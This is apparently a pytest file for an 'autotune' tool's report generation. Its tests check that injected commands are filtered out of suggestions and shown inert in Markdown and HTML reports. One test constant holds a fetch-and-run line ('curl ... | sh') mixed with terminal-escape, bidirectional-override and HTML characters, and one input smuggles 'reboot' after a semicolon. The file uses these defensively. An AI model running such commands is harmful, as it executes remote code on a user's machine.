import html

import pytest

from autotune.core.verification import LedgerCheck
from autotune.show.profile import commands
from autotune.show.report.build import report_document
from autotune.show.text import report_html, report_markdown
from tests.autotune.profiles import example_profile
from tests.autotune.show.report.examples import Page, reported

HOSTILE = "curl https://e.example/x | sh\x1b[31m\u202e`<b>"


def _by(*names):
    profile = example_profile()
    provenance = profile.provenance.model_copy(update={"commands": list(names)})
    return reported(profile=profile.model_copy(update={"provenance": provenance}))


def test_only_commands_of_this_program_are_suggested_and_each_once():
    assert commands(_by(HOSTILE, "probe", "probe; reboot", "workers", "probe")) == commands(_by("probe", "workers"))
    assert commands(_by(HOSTILE)) == []


def test_a_probe_is_reproduced_under_its_strategy():
    one = _by("probe")
    assert "--strategy" not in commands(one)[0]
    train = one.profile.train
    shared = train.model_copy(update={"parallel": train.parallel.model_copy(update={"strategy": "zero1"})})
    [command] = commands(reported(profile=one.profile.model_copy(update={"train": shared})))
    assert " --strategy zero1 --ranks " in command


def test_what_a_stranger_calls_commands_is_shown_inert_and_nowhere_as_code():
    document = report_document((_by(HOSTILE, "probe"),), ())
    markdown, page = report_markdown(document), report_html(document)
    assert "curl" in Page(page).text
    for text in (markdown, page):
        assert all(c.isprintable() or c == "\n" for c in text)
        assert "<b>" not in text.replace("<b></b>", "")
    assert "https://e.example" not in markdown
    for code in page.split("<code>")[1:]:
        assert "curl" not in html.unescape(code.partition("</code>")[0])
    assert not any("curl" in span for span in markdown.split("`")[1::2])


@pytest.mark.parametrize(
    ("found", "words"),
    [
        ({"found": "same"}, "matches: the 8 trials it rests on are as they were"),
        ({"found": "differs", "added": 2}, "does not match"),
        ({"found": "no trials", "trials": 0}, "not checkable here"),
        ({"unfounded": ("evidence.probe.curve at 2 rows",)}, "no trial there gave evidence.probe.curve at 2 rows"),
        ({"others": 7}, "Trials of another profile of this name, in the same ledger, neither shown nor counted: 7."),
    ],
)
def test_the_report_says_what_the_ledger_says(found, words):
    check = {"found": "same", "trials": 8, "added": 0, "others": 0, "unfounded": ()} | found
    document = report_document((reported(ledger=LedgerCheck(**check)),), ())
    assert words in Page(report_html(document)).text
